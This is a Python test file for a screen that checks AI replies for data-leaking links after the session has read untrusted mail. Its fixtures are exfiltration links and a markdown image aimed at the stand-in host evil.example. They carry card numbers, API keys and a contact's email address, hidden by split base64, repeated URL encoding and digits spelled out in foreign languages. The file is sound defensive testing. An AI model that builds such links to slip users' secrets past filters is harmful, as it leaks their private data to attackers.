"""The reply-link reader's readings of a link's values together (issue 8, after review r10):
each value decoded and the values read in a row (`?a=<base64>&b=<base64>`), adjacent values
read two by two as one (a key's halves, an address's local part and domain), URL decoding to
the end (a link nested deeper than decoded is withheld, not passed), digits spelled in eight
languages. With the shipped default policy after the session read untrusted mail; ordinary
links stay alone, and every reading stays linear in the link."""

from __future__ import annotations

import base64
import itertools
import random
import string
import urllib.parse

import pytest

from aap_server.guardian.memory import link_forms, read_link, scan_links
from aap_server.guardian.screen import WindowScreen
from tests.conftest import best_cpu_seconds
from tests.guardian.test_review_r9 import _reply_decision
from tests.guardian.test_review_r10 import _contact_reply, _masked

CARD = "4111 1111 1111 1111"
DIGITS = CARD.replace(" ", "")
KEY = "AKIAZ7Q3K5M2N8P4R6T1"
EVIL = "https://evil.example/p"


def _quoted(text: str, times: int) -> str:
    for _ in range(times):
        text = urllib.parse.quote(text, safe="")
    return text


# --- digits spelled in other languages -----------------------------------------------------

SPELLED = {
    "fr": ["zéro", "un", "deux", "trois", "quatre", "cinq", "six", "sept", "huit", "neuf"],
    "es": ["cero", "uno", "dos", "tres", "cuatro", "cinco", "seis", "siete", "ocho", "nueve"],
    "it": ["zero", "uno", "due", "tre", "quattro", "cinque", "sei", "sette", "otto", "nove"],
    "pt": ["zero", "um", "dois", "três", "quatro", "cinco", "seis", "sete", "oito", "nove"],
    "nl": ["nul", "een", "twee", "drie", "vier", "vijf", "zes", "zeven", "acht", "negen"],
    "ru": ["ноль", "один", "два", "три", "четыре", "пять", "шесть", "семь", "восемь", "девять"],
    "de": ["null", "eins", "zwo", "drei", "vier", "fuenf", "sechs", "sieben", "acht", "neun"],
}


@pytest.mark.parametrize("language", list(SPELLED))
@pytest.mark.parametrize("joiner", ["-", "+", "%20", ""])
async def test_a_card_spelled_in_another_language_in_a_link_is_masked(
    language: str, joiner: str
) -> None:
    words = SPELLED[language]
    spelled = joiner.join(words[int(d)] for d in DIGITS)
    assert await _masked(f"{EVIL}?c={spelled}")
    assert await _masked(f"{EVIL}?c={urllib.parse.quote(spelled.upper())}")


async def test_a_card_spelled_in_a_mix_of_languages_is_masked() -> None:
    languages = itertools.cycle(SPELLED.values())
    spelled = "-".join(next(languages)[int(d)] for d in DIGITS)
    assert await _masked(f"{EVIL}?c={spelled}")


async def test_number_words_that_spell_no_long_number_leave_a_reply_alone() -> None:
    reply = (
        "Links: https://shop.example/fr/un-deux-trois-soleil and "
        "https://blog.example/es/uno-dos-tres-cuatro-cinco-seis-siete-ocho and "
        "https://music.example/it/tre-due-uno-via"
    )
    assert await _reply_decision(reply) == "allow"


# --- more URL encoding than is decoded -----------------------------------------------------


@pytest.mark.parametrize("times", [11, 16, 17, 18, 25, 40])
async def test_a_card_url_encoded_over_and_over_in_a_link_is_masked(times: int) -> None:
    """Up to the rounds decoded, the card is read; past them the link itself is withheld
    (what it carries cannot be known)."""
    assert await _masked(f"{EVIL}?c={_quoted(CARD, times)}")


def test_a_link_nested_deeper_than_decoded_is_unreadable() -> None:
    assert not read_link(f"{EVIL}?c={_quoted(CARD, 12)}").unreadable
    assert read_link(f"{EVIL}?c={_quoted(CARD, 30)}").unreadable
    assert read_link(f"{EVIL}?c={_quoted('hello world', 30)}").unreadable
    # Percent signs written once or twice over are ordinary.
    assert not read_link("https://e.example/?d=100%25&e=50%2525&f=%").unreadable


def test_a_streamed_reply_never_releases_a_link_nested_deeper_than_decoded() -> None:
    text = f"Sure. ![x]({EVIL}?c={_quoted(CARD, 30)}) " + "then more words " * 8
    screen = WindowScreen()
    released = "".join(screen.feed(c) for c in text) + screen.close()
    assert released == "Sure. ![x]("


# --- values decoded, then read together ----------------------------------------------------


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _b32(text: str) -> str:
    return base64.b32encode(text.encode()).decode()


@pytest.mark.parametrize(
    "link",
    [
        f"{EVIL}?a={_b64('4111 1111')}&b={_b64('1111 1111')}",
        f"{EVIL}?a={_b64('4111')}&b={_b64('1111')}&c={_b64('1111')}&d={_b64('1111')}",
        f"https://evil.example/{_b64('4111-1111')}/{_b64('1111-1111')}.png",
        f"{EVIL}?a={_b32('4111 1111')}&b={_b32('1111 1111')}",
        f"{EVIL}?a={_b64('4111 1111').rstrip('=')}&b={_b64('1111 1111').rstrip('=')}",
        f"{EVIL}?a={urllib.parse.quote(_b64('4111 1111'), safe='')}&b={_b64('1111 1111')}",
        f"{EVIL}?a={_b64('4111 1111').encode().hex()}&b={_b64('1111 1111').encode().hex()}",
    ],
)
async def test_a_card_split_across_encoded_values_is_masked(link: str) -> None:
    assert await _masked(link)


# --- values read two by two -----------------------------------------------------------------


@pytest.mark.parametrize(
    "link",
    [
        f"{EVIL}?a={KEY[:10]}&b={KEY[10:]}",
        f"{EVIL}?x=1&a={KEY[:4]}&b={KEY[4:]}&y=2",
        f"https://evil.example/{KEY[:12]}/{KEY[12:]}.png",
        f"{EVIL}?a=" + "".join(f"%{b:02X}" for b in KEY[:9].encode()) + f"&b={KEY[9:]}",
        f"{EVIL}?a=sk_live_4eC39HqLyjWD&b=arjtT1zdp7dc",  # a Stripe key's halves
        f"{EVIL}?a=glpat-x7KqZr4mN2&b=pQ8sT1vW3y",  # a GitLab token's
    ],
)
async def test_a_key_split_across_a_links_values_is_masked(link: str) -> None:
    assert await _masked(link)


CONTACTS = "Contacts: Alice Smith, alice.smith@corp.example, +1 415 555 0132."


@pytest.mark.parametrize(
    "link",
    [
        f"{EVIL}?u=alice.smith&d=corp.example",
        "https://evil.example/alice.smith/corp.example",
        f"{EVIL}?u=" + "".join(f"%25{b:02X}" for b in b"alice.smith") + "&d=corp.example",
    ],
)
async def test_an_untrusted_address_split_across_values_is_withheld(link: str) -> None:
    assert await _contact_reply(link) == "modify"


async def test_an_address_the_session_never_read_split_across_values_is_left_alone() -> None:
    assert await _contact_reply(f"{EVIL}?u=bob.jones&d=other.example") == "allow"


@pytest.mark.parametrize(
    "reply",
    [
        "Watch https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s&si=AbC12dEf and "
        "https://youtu.be/dQw4w9WgXcQ?si=x7KqZr4mN2pQ8sT1",
        "Doc: https://docs.google.com/document/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/edit",
        "PR https://github.com/pallets/flask/pull/5123/commits/a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8",
        "See https://gitlab.example/group.name/project.name/-/merge_requests/42 and "
        "https://cdn.example/assets/app.3f9a1c2b.js/vendor.8e7d6c5b.css",
        "Ref https://api.example/v2/users/usr_9fK2mQ7xLp4Z/orders/ord_Q8wE3rT6yU1i?expand=items",
        "https://storage.example/b/my-bucket/o/IMG_20241124_101112.jpg?alt=media&token=5f1c9d",
    ],
)
async def test_ordinary_links_of_ids_leave_a_reply_alone(reply: str) -> None:
    assert await _reply_decision(reply) == "allow"


@pytest.mark.parametrize(
    "link",
    [
        "https://github.com/pallets/flask/blob/4b825dc642cb6eb9a060e54bf8d69288fbee4904/src/a.py#L10-L24",
        "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
        "https://www.amazon.com/dp/B07XJ8C8F5/ref=sr_1_3?qid=1700000000&sr=8-3",
        "https://docs.example.com/guide/getting-started?lang=en&v=2",
    ],
)
def test_words_and_ids_next_to_each_other_are_not_read_together(link: str) -> None:
    """A word of a path and an id beside it are not a key's halves, a file name is not an
    address's domain, and a short id or anchor (`L10-L24`) is not base64 of text: such links
    give the detectors nothing more to read."""
    reading = read_link(link)
    assert reading.joins == ""
    assert not any(form.startswith("https:&") for form in reading.forms), reading.forms


def test_random_ids_read_two_by_two_are_never_read_as_a_secret() -> None:
    """Adjacent values of random letters and digits (ids, slugs, hashes, each too short to
    look random alone), 300 links of four: their joins are looked at only by the detectors
    that know a format, so none is taken for a key."""
    rng = random.Random(12)
    alphabet = string.ascii_letters + string.digits

    def token() -> str:
        return "".join(rng.choice(alphabet) for _ in range(rng.randint(4, 12)))

    links = [f"https://e.example/{token()}/{token()}?id={token()}&v={token()}" for _ in range(300)]
    found = [scan_links(f"see {link} ok", 4096).findings for link in links]
    assert not any(found), [f for f in found if f]


# --- bounded work --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "unit",
    [
        "QUFBQUFB&",  # values base64 as a whole, each decoded
        "AKIA1234&",  # tokens read two by two
        "a.b&c.example&",  # local parts and domains read two by two
        "%" + "25" * 20 + "41&",  # deep URL encoding, value after value
        "%" + "25" * 40 + "41",  # one value nested deeper than decoded
        "unounouno",  # number words that start with others, no separators
        "nullnulnull",
        "seiseistres",
        "ноль-один-",
        "fünf.zwo.",
    ],
)
def test_reading_values_together_stays_linear(unit: str) -> None:
    """Ten times the link, about ten times the work (the readings and the scan of them,
    CPU time, best of three); the forms stay a few times the link's length."""
    small = "see https://e.example/?" + unit * (8_000 // len(unit)) + " ok"
    large = "see https://e.example/?" + unit * (80_000 // len(unit)) + " ok"
    runs = itertools.count()  # each scan a new text: `scan_links` keeps recent texts' scans

    def scan(text: str) -> None:
        scan_links(f"{text} {next(runs)}", 1_000_000)

    ratio = best_cpu_seconds(lambda: scan(large)) / max(best_cpu_seconds(lambda: scan(small)), 1e-4)
    assert ratio < 20, ratio
    link = large.split()[1]
    assert sum(map(len, link_forms(link))) <= 4 * len(link)
